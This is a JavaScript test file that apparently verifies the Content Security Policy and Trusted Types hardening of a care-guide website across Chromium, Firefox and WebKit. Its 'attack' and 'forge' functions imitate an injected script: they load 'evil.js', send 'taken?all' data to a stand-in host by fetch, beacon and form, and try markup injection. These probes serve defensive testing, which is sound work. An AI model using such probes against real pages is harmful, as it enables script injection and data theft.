// What a page may do: the policy that it brings, in each file of dist/; what
// browsers then refuse, and that no tool of ours ever needs it; and that no
// text becomes markup or a script.
import fs from "node:fs";
import path from "node:path";
import { it } from "node:test";
import assert from "node:assert/strict";
import { CspEvaluator } from "csp_evaluator/dist/evaluator.js";
import { CspParser } from "csp_evaluator/dist/parser.js";
import { emptied } from "./harness/empty.js";
import { inEngines } from "./harness/engines.js";
import { GUIDE, allPages, source, takenOver } from "./harness/guide.js";
import { LIBRARY, reworded } from "./harness/library.js";
import { guideFrame } from "./harness/embed.js";
import { clinicPage, snippet } from "./harness/host.js";
import { directives, listening, narrowed, policyOf, violations } from "./harness/policy.js";
import { sampleBut } from "./harness/sample.js";
import { DIST } from "./harness/site.js";
import { useEverything } from "./harness/walk.js";

const BUILDER = "embed/";
const OURS = allPages().filter((page) => !page.startsWith("demo/")); // the clinic's pages are not ours
// Pages that stand at any address.
const LOST = Object.fromEntries(["404.html", "offline.html", "gone.html"].map((page) => [page, fs.readFileSync(path.join(DIST, page), "utf8")]));

// What csp_evaluator says of our policies, and why it may stand.
const ACCEPTED = {
  "script-src 305": "an origin of files only: it has no JSONP and no AngularJS",
};

it("each page allows its own two blocks by hash, app.wasm where it runs, and nothing inline besides", () => {
  assert.ok(OURS.length > 40, "hardly any pages");
  for (const [page, html] of [...OURS.map((page) => [page, source(page)]), ...Object.entries(LOST)]) {
    const policy = policyOf(html);
    const rules = directives(policy);
    const hash = "'sha256-";
    assert.deepEqual(rules["default-src"], ["'none'"], page);
    assert.deepEqual([rules["base-uri"], rules["form-action"]], [["'none'"], ["'none'"]], page);
    assert.doesNotMatch(policy, /'unsafe-(inline|eval|hashes)'|\*/, page);
    assert.ok(rules["style-src"].length === 1 && rules["style-src"][0].startsWith(hash), page);
    assert.equal(rules["script-src"].filter((source) => source.startsWith(hash)).length, 1, page);
    assert.deepEqual(rules["require-trusted-types-for"], ["'script'"], page);
    assert.deepEqual(rules["trusted-types"], [page in LOST ? "'none'" : "careguide"], page);
    const runs = !(page in LOST) && page !== BUILDER;
    assert.equal(rules["script-src"].includes("'wasm-unsafe-eval'"), runs, `${page}: app.wasm ${runs ? "cannot" : "could"} run`);
    assert.equal("frame-src" in rules, page === BUILDER, page);
    // No attribute is a script or a style, so that none of them needs a permission.
    const markup = html.replace(/<(script|style)\b[^]*?<\/\1>/g, "");
    assert.doesNotMatch(markup, /<[^>]*\s(on\w+|style|srcdoc)=|href="?\s*javascript:/i, page);
  }
});

it("csp_evaluator finds nothing of weight in what is in force", () => {
  const kinds = new Set([...OURS.map(source), ...Object.values(LOST)].map((html) => narrowed(policyOf(html), "https://guides.example.org")).map((policy) => policy.replace(/sha256-[^']*/g, "sha256-K7gNU3sdo+OL0wNhqoVWhr3g6s1xYv72ol/pe/Unols=")));
  assert.ok(kinds.size >= 3, "fewer kinds of policy than there are");
  const found = [...kinds].flatMap((policy) => new CspEvaluator(new CspParser(policy).csp).evaluate());
  assert.deepEqual([...new Set(found.map((f) => `${f.directive} ${f.type}`))].filter((name) => !ACCEPTED[name]), [], JSON.stringify(found));
  assert.ok(found.every((f) => f.severity >= 50), "accepted, but of weight"); // 50: "medium, perhaps"
  // It is awake: of the policy that stands in the file it says what page.js is for.
  const bare = new CspEvaluator(new CspParser(policyOf(source(GUIDE))).csp).evaluate();
  assert.deepEqual(bare.filter((f) => f.severity < 50).map((f) => f.value), ["https:", "http:"]);
});

/** In a page: tries what a script that got in would do, all or only what is named; resolves to what it achieved. */
async function attack(elsewhere, where, only = "") {
  await new Promise((next) => setTimeout(next)); // a debugger may do what a page may not, until here
  const done = [];
  const attempt = async (name, act) => {
    if (!name.includes(only)) return;
    try {
      if (await act() !== false) done.push(name);
    } catch {
      // refused, as it should be
    }
  };
  const loads = (e) => new Promise((yes, no) => { e.onload = yes; e.onerror = no; setTimeout(no, 1500); document.body.append(e); }).finally(() => e.remove());
  window.ran = 0;
  const ran = () => window.ran > 0;
  const make = (name, properties) => Object.assign(document.createElement(name), properties);
  await Promise.all([
    attempt("eval", () => (0, eval)("1")),
    attempt("Function", () => new Function("return 1")()),
    attempt("a text as a timer", async () => { setTimeout("window.ran++", 0); await new Promise((next) => setTimeout(next, 100)); return ran(); }),
    attempt("an inline script", () => { const s = document.createElement("script"); s.append("window.ran++"); document.body.append(s); return ran(); }),
    attempt("a script of another origin", () => import(elsewhere + "evil.js")),
    attempt("a script in a data address", () => import("data:text/javascript,window.ran++")),
    attempt("a handler in markup", async () => { const b = document.createElement("b"); b.setAttribute("onclick", "window.ran++"); document.body.append(b); b.click(); b.remove(); return ran(); }),
    attempt("a javascript: link", async () => { const a = make("a", { href: "javascript:void window.ran++" }); document.body.append(a); a.click(); a.remove(); await new Promise((next) => setTimeout(next, 100)); return ran(); }),
    attempt("a worker", () => new Promise((yes, no) => { const w = new Worker(elsewhere + "evil.js"); w.onmessage = yes; w.onerror = no; setTimeout(no, 500); })),
    attempt("a request elsewhere", () => fetch(elsewhere + "taken?all", { mode: "no-cors" })),
    attempt("a beacon elsewhere", async () => { navigator.sendBeacon(elsewhere + "taken", "all"); return false; }), // the server tells
    attempt("a picture elsewhere", () => loads(make("img", { src: elsewhere + "taken.png" }))),
    attempt("a style of another origin", () => loads(make("link", { rel: "stylesheet", href: elsewhere + "evil.css" }))),
    attempt("a style in markup", () => { const p = document.createElement("p"); p.setAttribute("style", "color: rgb(1, 2, 3)"); document.body.append(p); const now = getComputedStyle(p).color; p.remove(); return now === "rgb(1, 2, 3)"; }),
    attempt("a form sent elsewhere", async () => { const f = make("form", { action: elsewhere + "taken", method: "post" }); document.body.append(f); f.submit(); f.remove(); return false; }),
    attempt("another base", () => { const b = make("base", { href: elsewhere }); document.head.append(b); const moved = new URL("x", document.baseURI).href.startsWith(elsewhere); b.remove(); return moved; }),
    attempt("a frame", async () => {
      const f = make("iframe", { src: `${elsewhere}frame/${where}` });
      // A frame that is refused loads an error page, or the page hears of it.
      const over = new Promise((done) => {
        f.onload = done;
        addEventListener("securitypolicyviolation", (e) => e.effectiveDirective === "frame-src" && done());
        setTimeout(done, 5000);
      });
      document.body.append(f);
      await over;
      f.remove();
      return false; // the server tells
    }),
  ]);
  return done;
}

/** In a page: the ways to make markup or a script of a text that nothing stopped. */
function forge() {
  const div = document.createElement("div");
  const script = document.createElement("script");
  const ways = {
    innerHTML: () => { div.innerHTML = "<b>b</b>"; },
    outerHTML: () => { document.body.appendChild(document.createElement("i")).outerHTML = "<b>b</b>"; },
    insertAdjacentHTML: () => div.insertAdjacentHTML("beforeend", "<b>b</b>"),
    DOMParser: () => new DOMParser().parseFromString("<b>b</b>", "text/html"),
    createContextualFragment: () => document.createRange().createContextualFragment("<b>b</b>"),
    srcdoc: () => { document.createElement("iframe").srcdoc = "<b>b</b>"; },
    "script.src": () => { script.src = "evil.js"; },
    "script.text": () => { script.text = "1"; },
    "a second rule": () => trustedTypes.createPolicy("other", { createHTML: (text) => text }),
    "our rule again": () => trustedTypes.createPolicy("careguide", { createHTML: (text) => text }),
  };
  return Object.keys(ways).filter((name) => { try { ways[name](); return true; } catch { return false; } });
}

inEngines(["chromium", "firefox", "webkit"], (lab) => {
  it("what got into a page could load, send and run nothing, on a page of its own and in a clinic's", async () => {
    const site = await lab.serve();
    const other = await lab.host("", { pages: { "/evil.js": { type: "text/javascript", body: "window.ran = 1; self.postMessage?.(1)" }, "/evil.css": { type: "text/css", body: "*{color:red}" } } });
    const tab = await lab.open();
    for (const page of [GUIDE, BUILDER]) {
      await tab.goto(site.url(page));
      assert.deepEqual(await tab.evaluate(attack, other.url(), page), [], page);
      assert.deepEqual(await tab.evaluate(forge), [], page);
    }
    const clinic = await lab.host(clinicPage(snippet.element(site)));
    await tab.goto(clinic.url());
    const frame = await guideFrame(tab);
    assert.deepEqual(await frame.evaluate(attack, other.url(), "clinic"), [], "in the frame");
    assert.deepEqual(await frame.evaluate(forge), [], "in the frame");
    const heard = () => other.requests.map((r) => r.path + r.query);
    assert.deepEqual(heard(), []);
    // The other site would have heard: of a page without a policy it does.
    site.pages["/bare"] = "<!doctype html><title>No policy</title>";
    await tab.goto(site.origin + "/bare");
    await tab.evaluate(attack, other.url(), "bare", "a frame");
    assert.deepEqual(heard(), ["/frame/bare"]);
  });

  it("no tool of any page does what the policy forbids", async () => {
    const site = await lab.serve();
    // One of each kind; WebKit, which takes seconds for each, gets the tools' own.
    const tools = ["", "compare/", "questions/", "values/", "tried/", "my-pages/", "settings/"].map((page) => GUIDE + page);
    const others = ["ect/", "safety/", "compare/ect-ketamine/", "topics/", "glossary/"].map((page) => GUIDE + page);
    const pages = sampleBut(lab.engine, "pages under a policy", lab.engine === "webkit" ? tools : [...tools, ...others, BUILDER, ""], 4);
    listening(site, [...new Set([...pages, GUIDE])]);
    const tab = await lab.open();
    let pressed = 0;
    for (const page of pages) {
      await tab.goto(site.url(page));
      if (await tab.evaluate(() => document.querySelector("#find, #tool, #compare-box") !== null)) await takenOver(tab);
      pressed += (await tab.evaluate(useEverything)).length;
      assert.deepEqual(await tab.evaluate(violations), [], page);
    }
    assert.ok(pressed > 7 * pages.length, `only ${pressed} things were there to use on ${pages}`);
    const clinic = await lab.host(clinicPage(snippet.element(site)));
    await tab.goto(clinic.url());
    const frame = await guideFrame(tab);
    await frame.click("#find");
    await takenOver(frame);
    pressed = await frame.evaluate(useEverything);
    assert.ok(pressed.includes("settings") && pressed.length > 40, `in the frame: ${pressed}`);
    assert.deepEqual(await frame.evaluate(violations), [], "in the frame");
    assert.deepEqual(tab.errors, []);
    // And what a browser sent meanwhile says nothing of the reader (network.test.js hears all of Chromium's).
    assert.ok(site.requests.length > 5 * pages.length, `only ${site.requests.length} requests`);
    for (const { method, path, query, headers } of site.requests) {
      // To its own origin a worker names itself, or in WebKit that origin; a clinic's page has a policy of its own.
      const named = [site.url("sw.js"), site.url()].includes(headers.referer) || path === "/embed.js" ? undefined : headers.referer;
      assert.deepEqual([method, query, headers.cookie, named], ["GET", "", undefined, undefined], path);
    }
  });

  it("markup that no build writes is shown as letters, even from our own server", async () => {
    const site = await lab.serve();
    const page = `/${GUIDE}`;
    site.pages[page] = emptied(source(GUIDE)); // the program makes the page of the library alone
    const before = "<strong>";
    site.pages["/" + LIBRARY] = { type: "text/plain", body: reworded(before, "<script>") };
    const tab = await lab.open();
    await tab.goto(site.url(GUIDE));
    await takenOver(tab);
    const { letters, scripts } = await tab.evaluate(() => ({ letters: document.body.textContent.includes("<script>"), scripts: document.querySelectorAll("#careguide script").length }));
    assert.deepEqual([letters, scripts], [true, 0]);
    assert.deepEqual(tab.errors, []);
  });
});
